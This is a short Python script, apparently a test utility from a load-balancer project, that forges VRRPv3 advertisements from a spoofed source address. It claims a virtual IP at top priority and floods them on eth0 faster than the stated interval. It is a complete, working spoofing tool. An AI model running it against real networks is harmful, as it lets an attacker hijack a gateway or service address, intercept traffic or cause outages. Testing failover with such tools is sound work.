# Copyright (c) 2026 The pacs.loadbalancer authors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Send VRRP advertisements (version 3) that claim the VIP with the highest priority, from whatever address.

usage: forge.py SOURCE DESTINATION TTL ROUTER_ID VIP INTERVAL COUNT

INTERVAL is what they say; they come five times as often.
"""

from __future__ import annotations

import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(source: bytes, destination: bytes, router_id: int, vip: bytes, interval: float) -> bytes:
    """RFC 9568, 5.2; the checksum is that of either family with its pseudo-header (5.2.8)."""
    body = struct.pack("!BBBBHH", 0x31, router_id, 255, 1, round(interval * 100), 0) + vip
    of_family = (
        struct.pack("!BBH", 0, 112, len(body)) if len(source) == 4 else struct.pack("!IBBBB", len(body), 0, 0, 0, 112)
    )
    pseudo = source + destination + of_family
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def header(source: bytes, destination: bytes, ttl: int, length: int) -> bytes:
    """RFC 791, 3.1, whose checksum the kernel adds; RFC 8200, 3."""
    if len(source) == 4:
        return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, ttl, 112, 0, source, destination)
    return struct.pack("!IHBB16s16s", 6 << 28, length, 112, ttl, source, destination)


def main() -> None:
    family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET
    source, destination, vip = (socket.inet_pton(family, sys.argv[number]) for number in (1, 2, 5))
    ttl, router_id, interval, count = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[6]), int(sys.argv[7])
    payload = advertisement(source, destination, router_id, vip, interval)
    head = header(source, destination, ttl, len(payload))
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        wire.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
        for _advertisement in range(count):
            wire.sendto(head + payload, (sys.argv[2], 0))
            time.sleep(interval / 5)


if __name__ == "__main__":
    main()
